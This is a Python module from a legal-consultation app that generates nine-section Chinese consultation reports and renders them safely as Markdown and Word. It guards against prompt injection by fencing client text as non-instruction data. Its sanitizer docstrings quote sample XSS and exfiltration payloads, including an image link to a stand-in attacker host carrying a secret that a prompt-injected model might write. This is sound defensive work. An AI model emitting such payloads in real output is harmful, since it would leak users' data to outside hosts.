"""The secretary: writes the nine-section consultation report when a consultation ends (LawLuo paper §3.2).

The report's sections are 报告编号, 日期, 咨询人, 咨询事项, 咨询目的, 事实与背景, 法律分析, 法律建议 and
风险提示. The code fills the first three from the firm's records (a model is never trusted with a report
number, a date or a name); the model writes the other six as JSON (:class:`ReportDraft`, through
:meth:`ChatBackend.chat_json`), shown a few hand-written example consultations and their reports
(``assets/report_examples/*.json``, the paper's in-context examples) as earlier turns of the chat.

    secretary = Secretary(models["secretary"], load_examples(settings.report_examples_dir))
    report = secretary.write(ReportInput(client="王女士", domain_name="劳动纠纷", turns=[("client", "…")],
                                         confirmed=[…], denied=[…], statutes=[…], number="LL-…", date="…"))
    render_markdown(report); render_docx(report, "report.docx")

**Untrusted text.** The conversation, the facts and even the client's name come from the client (or from
models): they are sent between the ``<<<咨询材料开始>>>``/``<<<咨询材料结束>>>`` lines of
``secretary/request``, the system prompt says that nothing between them is an instruction, and runs of
``<<<``/``>>>`` inside them are replaced by full-width brackets so that they cannot close the block early.

**Budget.** The conversation is cut to :data:`CONVERSATION_CHARS` characters: the first third and the
last two thirds of the budget are kept (the beginning holds the question, the end the lawyer's latest
conclusions) with a marker saying how many characters were left out.

**Without a model, or when it fails.** :meth:`Secretary.write` never raises for a model problem. With no
model configured (``available`` False or :class:`ModelUnavailable`) it returns a partial report built only
from the input — number, date, client, subject (domain + first question), facts (confirmed and denied
facts, the client's own words) — whose analysis, advice and risks say that no language model is
configured, ``generated_by="no model"``. When the model is configured but fails (no valid JSON after
``chat_json``'s one corrective retry → :class:`StructuredOutputError`, or any other :class:`LLMError`) the
report is the same partial one and :attr:`Report.notice` records the error, so the UI can show it and
offer to try again. No legal analysis is ever invented without a model. A report whose analysis denies a
claim its advice tells the client to make (无法要求赔偿 / 可以要求…赔偿), or that holds the same text in two
sections, carries a warning above its sections
(:attr:`Report.warnings`, :mod:`.report_check`); the text stays as the model wrote it.

**What the client keeps.** After the nine sections every report carries what the firm recorded, written
by the code and never by a model: the facts the client confirmed and denied in the clarification tree,
every statute cited in the consultation with the checker's verdict (its Chinese label,
``lawluo/law/verdicts.py``) and the real text of the article it matched, and a disclaimer
(:data:`DISCLAIMER`). :func:`report_blocks` lays the report out once; :func:`render_markdown` and
:func:`render_docx` write the same blocks, so the ``.md`` and the ``.docx`` hold the same text, and
neither holds a live link, an image or HTML (:func:`md_text`, :func:`inert_links`).
"""

from __future__ import annotations

import html
import json
import logging
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from pydantic import BaseModel

from .. import prompts
from ..i18n import message
from ..law.verdicts import BY_CODE, VERDICT_TABLE
from ..llm import ChatBackend, LLMError, ModelUnavailable
from .lawyer import as_statement
from .report_check import MAX_WARNINGS, contradictions, repeated_sections
from .report_draft import ReportDraft, ShortReportDraft

log = logging.getLogger(__name__)

CONVERSATION_CHARS = 8000  # characters of the conversation sent to the model (and quoted in a partial report)
#: With a small local model (``prompt_variant`` small or tuned) the model reads every token of the prompt on a
#: CPU (~66 tokens/s for the 0.5B): no in-context examples (two reports, ~5,000 tokens) and a shorter conversation.
SMALL_CONVERSATION_CHARS = 2500
HEAD_SHARE = 1 / 3  # share of the budget kept from the beginning; the rest comes from the end
SUBJECT_CHARS = 60  # characters of the first question used as a partial report's subject
NO_MODEL = "no model"

TITLE = "法律咨询报告"
#: The nine sections in order: (field of :class:`Report`, heading).
SECTIONS: tuple[tuple[str, str], ...] = (
    ("number", "报告编号"),
    ("date", "日期"),
    ("client", "咨询人"),
    ("subject", "咨询事项"),
    ("purpose", "咨询目的"),
    ("facts", "事实与背景"),
    ("analysis", "法律分析"),
    ("advice", "法律建议"),
    ("risks", "风险提示"),
)
#: What follows the nine sections, filled by the code from the firm's records (:func:`report_blocks`).
FACTS_HEADING, STATUTES_HEADING, DISCLAIMER_HEADING = "咨询人确认和否认的事实", "引用法条及核查结果", "声明"
APPENDIX: tuple[str, ...] = (FACTS_HEADING, STATUTES_HEADING, DISCLAIMER_HEADING)
DISCLAIMER = (
    "本报告由 LawLuo 系统根据本次咨询的记录自动生成，仅供参考，不构成正式的法律意见，也不能代替执业律师的意见；"
    "采取法律行动之前，请向执业律师咨询。法条核查以本系统收录的法规库为准，法规库可能未收录最新的修订。"
)
CONFIRMED_LEAD, DENIED_LEAD = "咨询人确认的事实：", "咨询人否认的事实："
NO_STATUTES = "本次咨询的回答没有引用具体法条。"
MATCHED_LEAD = "对应条文："
TEXT_LEAD = "条文原文："
NO_TEXT = "法规库中没有这一条的原文。"
GENERATED_BY = "生成方式：{by}"
GENERATED_WITHOUT_MODEL = "未使用语言模型，根据咨询记录整理"
SPEAKERS = {"client": "咨询人", "lawyer": "律师"}
#: The citation checker's verdict codes as the model reads them (the ``report_zh`` of lawluo/law/verdicts.py).
VERDICT_LABELS = {v.code: v.report_zh for v in VERDICT_TABLE}
NOT_WRITTEN_NO_MODEL = (
    "（未生成：本站未配置语言模型。法律分析、法律建议和风险提示只能由语言模型撰写；"
    f"回答中引用的法条及其核查结果见“{STATUTES_HEADING}”。）"
)
NOT_WRITTEN_FAILED = "（未生成：语言模型未能写出有效的报告内容，请稍后重新生成报告。）"
NOT_WRITTEN_SHORT_NO_MODEL = "（未生成：未配置语言模型。）"
NOT_WRITTEN_SHORT_FAILED = "（未生成：语言模型调用失败。）"
#: Why a report is partial: the Chinese text of a catalogue message (the report is Chinese; the web page says
#: the notice in the visitor's language, ``lawluo/ui/consult_render.note_html``).
NOTICE_NO_MODEL = str(message("consult.report_notice.no_model"))
#: A visitor reads plain words; the model's error goes to the log (issue 42: "错误：openai · fake-model did
#: not return valid JSON for ReportDraft…" in a client's report).
NOTICE_FAILED = str(message("consult.report_notice.failed"))
PURPOSE_PARTIAL = "就{domain}问题寻求法律意见。"
NONE = "（无）"

_MARKERS = re.compile(r"<{3,}|>{3,}")


class CitedStatute(BaseModel):
    """A statute cited in the consultation, as the report lists it."""

    citation: str  # as cited: 《中华人民共和国劳动合同法》第八十二条
    verdict: str  # the checker's verdict code (lawluo/law/verdicts.py)
    article: str = ""  # the article the checker matched the citation to (another one for a wrong number)
    text: str = ""  # that article's real text; "" when the database has none


class Report(BaseModel):
    """The nine-section consultation report (LawLuo paper §3.2), plus who wrote it and any notice, and the
    firm's records that follow the sections (the facts marked, the statutes cited with their verdicts)."""

    number: str  # 报告编号
    date: str  # 日期
    client: str  # 咨询人
    subject: str  # 咨询事项
    purpose: str  # 咨询目的
    facts: str  # 事实与背景
    analysis: str  # 法律分析
    advice: list[str]  # 法律建议, one item each
    risks: list[str]  # 风险提示, one item each
    generated_by: str  # the model's describe() (never a server URL), or "no model" for a partial report
    notice: str = ""  # why the report is partial (no model, or the model's error); empty otherwise
    #: what a lawyer should check: the analysis denying what the advice says, sections copied (report_check)
    warnings: list[str] = []
    confirmed: list[str] = []  # facts the client confirmed (ToLC "yes")
    denied: list[str] = []  # facts the client denied (ToLC "no")
    statutes: list[CitedStatute] = []  # every statute cited, with its verdict and real text

    @property
    def partial(self) -> bool:
        return self.generated_by == NO_MODEL


@dataclass
class ReportInput:
    """One finished consultation, as the firm hands it to the secretary."""

    client: str
    domain_name: str
    turns: list[tuple[str, str]]  # ("client" | "lawyer", text), in order
    confirmed: list[str]  # facts the client confirmed (ToLC "yes")
    denied: list[str]  # facts the client denied (ToLC "no")
    #: the statutes the lawyer cited, each with the checker's verdict code:
    #: ``("《中华人民共和国劳动合同法》第十九条", "verified")``
    statutes: list[tuple[str, str]]
    number: str
    date: str
    #: for each of ``statutes`` (or none): the article the checker matched it to, and that article's real
    #: text (``("", "")`` when it matched none)
    matched: list[tuple[str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.turns = [(str(role), str(text)) for role, text in self.turns]
        bad = sorted({role for role, _ in self.turns} - set(SPEAKERS))
        if bad:
            raise ValueError(f"turn roles must be 'client' or 'lawyer', not {', '.join(map(repr, bad))}")
        self.statutes = [(str(citation), str(verdict)) for citation, verdict in self.statutes]
        unknown = sorted({verdict for _, verdict in self.statutes} - set(VERDICT_LABELS))
        if unknown:
            raise ValueError(f"unknown verdict(s) {', '.join(unknown)}; valid: {', '.join(VERDICT_LABELS)}")
        self.matched = [(str(article), str(text)) for article, text in self.matched]
        if self.matched and len(self.matched) != len(self.statutes):
            raise ValueError("matched lists one (article, text) per statute, or nothing")

    def cited(self) -> list[CitedStatute]:
        """The statutes with their verdicts and matched articles, as the report lists them."""
        matched = self.matched or [("", "")] * len(self.statutes)
        return [
            CitedStatute(citation=citation, verdict=verdict, article=article, text=text)
            for (citation, verdict), (article, text) in zip(self.statutes, matched, strict=True)
        ]

    @classmethod
    def from_dict(cls, data: dict) -> ReportInput:
        return cls(**data)


@dataclass
class ReportExample:
    """An in-context example: a consultation and the report the secretary should write for it."""

    input: ReportInput
    report: Report
    source: Path | None = field(default=None, compare=False)


def load_examples(directory: Path | str) -> list[ReportExample]:
    """Every ``*.json`` example in ``directory`` (the settings' ``report_examples_dir``), by file name."""
    paths = sorted(Path(directory).glob("*.json"))
    if not paths:
        raise FileNotFoundError(f"no report examples (*.json) in {directory}")
    examples = []
    for path in paths:
        data = json.loads(path.read_text(encoding="utf-8"))
        try:
            examples.append(
                ReportExample(
                    ReportInput.from_dict(data["input"]), Report.model_validate(data["report"]), path
                )
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise ValueError(f"{path}: not a report example ({exc})") from exc
    return examples


class Secretary:
    name = "secretary"

    def __init__(
        self, model: ChatBackend, examples: Sequence[ReportExample] = (), prompt_variant: str = "default"
    ) -> None:
        self.model = model
        self.prompt_variant = prompt_variant  # the settings' (lawluo.prompts.VARIANTS)
        small = "small" in prompts.VARIANTS[prompt_variant]
        # in-context examples: load_examples(settings.report_examples_dir); none for a small model
        self.examples = [] if small else list(examples)
        self.conversation_chars = SMALL_CONVERSATION_CHARS if small else CONVERSATION_CHARS
        self.draft_type = ShortReportDraft if small else ReportDraft

    @property
    def available(self) -> bool:
        return self.model.available

    def messages(self, inp: ReportInput) -> list[dict[str, str]]:
        """System prompt; each example as a user request and the assistant's JSON; then this consultation."""
        messages = [{"role": "system", "content": prompts.render("secretary/system", self.prompt_variant)}]
        for example in self.examples:
            draft = example.report.model_dump(include=set(ReportDraft.model_fields))
            messages += [
                {"role": "user", "content": _request(example.input, self.conversation_chars)},
                {"role": "assistant", "content": json.dumps(draft, ensure_ascii=False, indent=1)},
            ]
        messages.append({"role": "user", "content": _request(inp, self.conversation_chars)})
        return messages

    def write(self, inp: ReportInput) -> Report:
        """The report for ``inp``; a partial report (see the module docstring) when the model is missing or fails."""
        if not self.model.available:
            return partial_report(inp)
        try:
            draft = self.model.chat_json(self.messages(inp), self.draft_type)
        except ModelUnavailable:
            return partial_report(inp)
        except LLMError as exc:
            log.warning("secretary: the model wrote no report, a partial one is given: %s", exc)
            return partial_report(inp, error=str(exc))
        return Report(
            **draft.model_dump(),
            number=inp.number,
            date=inp.date,
            client=inp.client,
            generated_by=self.model.describe(),
            warnings=(
                [c.warning() for c in contradictions(draft.analysis, draft.advice)]
                + repeated_sections(draft.model_dump())
            )[:MAX_WARNINGS],
            **_records(inp),
        )


def cited_statutes(citations: Iterable[dict]) -> dict[tuple[str, str], tuple[str, str]]:
    """Every statute of ``citations`` (the checker's :meth:`~lawluo.law.checked.Checked.as_dict` rows) once per
    verdict, as :class:`ReportInput` takes them: ``(statute as cited, verdict) → (the article matched, its real
    text)``; citations without a law and an article are left out."""
    cited: dict[tuple[str, str], tuple[str, str]] = {}
    for c in citations:
        if not (c.get("law") and c.get("article_label")):
            continue
        m = c.get("matched") or {}
        article = f"《{m['law']}》{m['article_label']}" if m.get("law") else ""
        cited.setdefault((f"《{c['law']}》{c['article_label']}", c["verdict"]), (article, m.get("text", "")))
    return cited


def _records(inp: ReportInput) -> dict:
    """What every report carries from the firm's records (never from a model); a tree element written as a
    question (是否…？) is listed as the statement the client confirmed or denied."""
    return {
        "confirmed": [as_statement(fact) for fact in inp.confirmed],
        "denied": [as_statement(fact) for fact in inp.denied],
        "statutes": inp.cited(),
    }


def partial_report(inp: ReportInput, error: str | None = None) -> Report:
    """The report built from ``inp`` alone: no analysis, advice or risks (those need a model)."""
    client_words = [" ".join(text.split()) for role, text in inp.turns if role == "client" and text.strip()]
    first = client_words[0] if client_words else ""
    subject = inp.domain_name + (f"：{_clip_end(first, SUBJECT_CHARS)}" if first else "")
    facts = "\n".join(
        [
            "咨询人的陈述：",
            _clip("\n".join(f"- {text}" for text in client_words)) if client_words else NONE,
            f"（咨询人确认和否认的事实见“{FACTS_HEADING}”。）",
        ]
    )
    note = NOT_WRITTEN_NO_MODEL if error is None else NOT_WRITTEN_FAILED
    short = NOT_WRITTEN_SHORT_NO_MODEL if error is None else NOT_WRITTEN_SHORT_FAILED
    return Report(
        number=inp.number,
        date=inp.date,
        client=inp.client,
        subject=subject,
        purpose=PURPOSE_PARTIAL.format(domain=inp.domain_name),
        facts=facts,
        analysis=note,
        advice=[short],
        risks=[short],
        generated_by=NO_MODEL,
        notice=NOTICE_NO_MODEL if error is None else NOTICE_FAILED,
        **_records(inp),
    )


# -- the prompt ---------------------------------------------------------------------------------------


def _request(inp: ReportInput, budget: int = CONVERSATION_CHARS) -> str:
    conversation = "\n".join(f"{SPEAKERS[role]}：{text.strip()}" for role, text in inp.turns)
    return prompts.render(
        "secretary/request",
        client=_defang(inp.client),
        domain=_defang(inp.domain_name),
        confirmed=_defang(_bullets(inp.confirmed)),
        denied=_defang(_bullets(inp.denied)),
        statutes=_defang(
            _bullets([f"{citation}（{VERDICT_LABELS[verdict]}）" for citation, verdict in inp.statutes])
        ),
        conversation=_defang(_clip(conversation, budget)) or NONE,
    )


def _defang(text: str) -> str:
    """Runs of <<< or >>> (the block's delimiters) in untrusted text become full-width brackets."""
    return _MARKERS.sub(lambda m: m.group().replace("<", "＜").replace(">", "＞"), text)


def _bullets(items: list[str]) -> str:
    lines = [f"- {' '.join(item.split())}" for item in items if item.strip()]
    return "\n".join(lines) or NONE


def _clip(text: str, budget: int = CONVERSATION_CHARS) -> str:
    """``text`` if it fits in ``budget`` characters, else ``budget`` characters of its beginning and end
    (:data:`HEAD_SHARE` from the beginning) with a marker between that says how much was left out.

    >>> _clip("一二三四五六七八九十", 6)
    '一二\\n……（中间省略 4 字）……\\n七八九十'
    """
    if len(text) <= budget:
        return text
    head = int(budget * HEAD_SHARE)
    tail = budget - head
    return f"{text[:head]}\n……（中间省略 {len(text) - head - tail} 字）……\n{text[len(text) - tail :]}"


def _clip_end(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[: limit - 1] + "…"


# -- rendering ----------------------------------------------------------------------------------------

_LEADING_HASH = re.compile(r"^(\s*)#", re.M)
_UNSAFE_SCHEME = re.compile(r"(javascript|vbscript|data)\s*:", re.I)
_BACKTICK_RUN = re.compile(r"`{3,}")


def md_text(text: str) -> str:
    """Text made safe to embed in Markdown that a browser will render: nothing in it runs or fetches.

    ``&``, ``<`` and ``>`` become HTML entities, so no tag in a model's (or client's) text can become live
    HTML (``<script>``, ``<img onerror=…>``) whatever the Markdown renderer's HTML policy is; they still
    display as the characters they were. A ``javascript:``/``vbscript:``/``data:`` scheme gets a full-width
    colon, so a Markdown link cannot carry one (an entity would not do: CommonMark decodes entities in
    link destinations). ``![`` becomes ``!\\[``, so no image (inline ``![a](url)`` or reference-style
    ``![a][r]``) is rendered: the browser would fetch it, e.g. ``![x](https://attacker/?q=secret)`` written by
    a prompt-injected model. Runs of three or more backticks are escaped, so no fenced block can open: Gradio
    draws a ```` ```mermaid ```` block as a Mermaid diagram, whose labels may hold live ``<img>`` tags (the
    diagram reads the decoded text). A ``#`` that starts a line is escaped so that text cannot add headings
    to the report's nine. Nothing else is escaped: emphasis, lists and links in the text render as written
    (a link is fetched only when the visitor clicks it).

    >>> md_text("<b>注意</b> & [x](javascript:alert(1)) ![y](https://a.example/?q=1)")
    '&lt;b&gt;注意&lt;/b&gt; &amp; [x](javascript：alert(1)) !\\\\[y](https://a.example/?q=1)'
    """
    text = html.escape(text, quote=False)
    text = _UNSAFE_SCHEME.sub(lambda m: m.group(1) + "：", text)
    text = text.replace("![", "!\\[")
    text = _BACKTICK_RUN.sub(lambda m: "\\`" * len(m.group()), text)
    return _LEADING_HASH.sub(r"\1\\#", text)


_UNESCAPED_BRACKET = re.compile(r"(?<!\\)((?:\\\\)*)\[")
_UNESCAPED_AT = re.compile(r"(?<!\\)((?:\\\\)*)@")
_SCHEME = re.compile(r"(https?|ftps?|mailto|file)(?=:)", re.I)
_WWW = re.compile(r"(www)(?=\.)", re.I)


def inert_links(markdown: str) -> str:
    r"""Markdown in which no link can form: what would be one shows as the text it was written as.

    :func:`md_text` already leaves no image, no HTML and no fenced block; a link
    (``[x](https://host/?q=secret)``, a reference ``[x][r]`` with ``[r]: https://…``, or a bare
    ``https://…``, ``www.…`` or ``name@host`` that GitHub-flavoured Markdown turns into one) is still one
    click from sending the visitor to a host a model chose. Every ``[`` and ``@`` not already escaped gets
    a backslash, and so do the ``:`` after a URL scheme and the ``.`` after ``www``: the renderer sees no
    link syntax and no autolink (CommonMark §2.4: a backslash before ASCII punctuation shows the
    character itself). Applied to Markdown already made safe with ``md_text`` (idempotent); the visitor
    reads the characters as written and can copy an address by hand.

    >>> print(inert_links("见 [x](https://a.example/?q=1)、www.b.example 和 me@c.example"))
    见 \[x](https\://a.example/?q=1)、www\.b.example 和 me\@c.example
    """
    markdown = _UNESCAPED_BRACKET.sub(lambda m: m.group(1) + "\\[", markdown)
    markdown = _UNESCAPED_AT.sub(lambda m: m.group(1) + "\\@", markdown)
    markdown = _SCHEME.sub(lambda m: m.group(1) + "\\", markdown)
    return _WWW.sub(lambda m: m.group(1) + "\\", markdown)


_LIST_ITEM = re.compile(r"^(?:[-*+]|\d+[.)])\s")
_XML_INVALID = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@dataclass(frozen=True)
class Block:
    """One paragraph of the report as both writers lay it out.

    ``kind``: ``title`` (the report's title), ``notice`` (why the report is partial), ``heading`` (a
    section), ``text`` (a paragraph), ``strong`` (a paragraph in bold: a cited statute and its verdict),
    ``numbered`` / ``bullet`` (a list item: advice / risks and facts), ``footer`` (who wrote it).
    """

    kind: str
    text: str


def report_blocks(report: Report) -> list[Block]:
    """The report as a list of blocks: the title, the notice, the nine sections, then the facts the client
    marked, the statutes cited with their verdicts and real text, the disclaimer, and who wrote it."""
    blocks = [Block("title", TITLE)]
    if report.notice:
        blocks.append(Block("notice", " ".join(report.notice.split())))
    blocks += [Block("notice", " ".join(w.split())) for w in report.warnings]
    for name, heading in SECTIONS:
        blocks.append(Block("heading", heading))
        value = getattr(report, name)
        if name in ("advice", "risks"):
            kind = "numbered" if name == "advice" else "bullet"
            blocks += [Block(kind, item) for item in _items(value)] or [Block("text", NONE)]
        else:
            blocks += _lines(value) or [Block("text", NONE)]
    blocks.append(Block("heading", FACTS_HEADING))
    for lead, facts in ((CONFIRMED_LEAD, report.confirmed), (DENIED_LEAD, report.denied)):
        blocks.append(Block("text", lead))
        blocks += [Block("bullet", fact) for fact in _items(facts)] or [Block("text", NONE)]
    blocks.append(Block("heading", STATUTES_HEADING))
    for i, cited in enumerate(report.statutes, start=1):
        row = BY_CODE.get(cited.verdict)
        blocks.append(Block("strong", f"{i}. {cited.citation}：{row.label_zh if row else cited.verdict}"))
        if cited.article and cited.article != cited.citation:
            blocks.append(Block("text", MATCHED_LEAD + cited.article))
        lines = [line.strip() for line in cited.text.splitlines() if line.strip()]
        if lines:
            blocks += [Block("text", TEXT_LEAD + lines[0])] + [Block("text", line) for line in lines[1:]]
        else:
            blocks.append(Block("text", NO_TEXT))
    if not report.statutes:
        blocks.append(Block("text", NO_STATUTES))
    blocks += [Block("heading", DISCLAIMER_HEADING), Block("text", DISCLAIMER)]
    by = GENERATED_WITHOUT_MODEL if report.partial else report.generated_by
    blocks.append(Block("footer", GENERATED_BY.format(by=" ".join(by.split()))))
    return blocks


def _items(values: list[str]) -> list[str]:
    return [" ".join(item.split()) for item in values if item.strip()]


def _lines(text: str) -> list[Block]:
    return [Block("text", line.strip()) for line in text.splitlines() if line.strip()]


def render_markdown(report: Report) -> str:
    """The report as Markdown: a title, the notice (if any) as a quote, one ``##`` heading per section.

    Every text passes through :func:`md_text` and :func:`inert_links`: the page shows this Markdown and the
    visitor downloads it as ``.md``, and a Markdown viewer finds no HTML, image, diagram or link in it, so
    an address a model wrote is text, not one click away. A paragraph is a line of its own (runs of list
    items written in a section's text, such as ``- …`` lines, stay one list).
    """
    out: list[str] = []
    previous, number = None, 0
    for block in report_blocks(report):
        text = inert_links(md_text(block.text))
        number = number + 1 if block.kind == "numbered" else 0
        line = {
            "title": f"# {text}",
            "notice": f"> {text}",
            "heading": f"## {text}",
            "strong": f"**{text}**",
            "footer": f"*{text}*",
            "numbered": f"{number}. {text}",
            "bullet": f"- {text}",
        }.get(block.kind, text)
        joins = previous is not None and (
            (block.kind in ("numbered", "bullet") and previous.kind == block.kind)
            or (
                block.kind == previous.kind == "text" and _LIST_ITEM.match(line) and _LIST_ITEM.match(out[-1])
            )
        )
        if joins:
            out[-1] += "\n" + line
        else:
            out.append(line)
        previous = block
    return "\n\n".join(out) + "\n"


def render_docx(report: Report, path: Path | str) -> Path:
    """Write the report as a Word document (python-docx): the same blocks as :func:`render_markdown`.

    Each block is plain text in a run: the document holds no hyperlink (no ``w:hyperlink`` element, no
    ``HYPERLINK`` field, no hyperlink relationship), so an address a model wrote is text, as on the page.
    """
    from docx import Document
    from docx.oxml.ns import qn

    def clean(text: str) -> str:  # characters XML cannot hold would make python-docx raise
        return _XML_INVALID.sub("", text)

    document = Document()
    normal = document.styles["Normal"]
    normal.font.name = "SimSun"
    normal.element.get_or_add_rPr().get_or_add_rFonts().set(qn("w:eastAsia"), "宋体")
    styles = {"notice": "Intense Quote", "numbered": "List Number", "bullet": "List Bullet"}
    for block in report_blocks(report):
        text = clean(block.text)
        if block.kind == "title":
            document.add_heading(text, level=0)
        elif block.kind == "heading":
            document.add_heading(text, level=1)
        elif block.kind in ("strong", "footer"):
            run = document.add_paragraph().add_run(text)
            run.bold, run.italic = block.kind == "strong", block.kind == "footer"
        else:
            document.add_paragraph(text, style=styles.get(block.kind))
    path = Path(path)
    document.save(str(path))
    return path


__all__ = [
    "APPENDIX",
    "DISCLAIMER",
    "SECTIONS",
    "Block",
    "CitedStatute",
    "Report",
    "ReportDraft",
    "ReportExample",
    "ReportInput",
    "Secretary",
    "inert_links",
    "load_examples",
    "md_text",
    "partial_report",
    "render_docx",
    "render_markdown",
    "report_blocks",
]
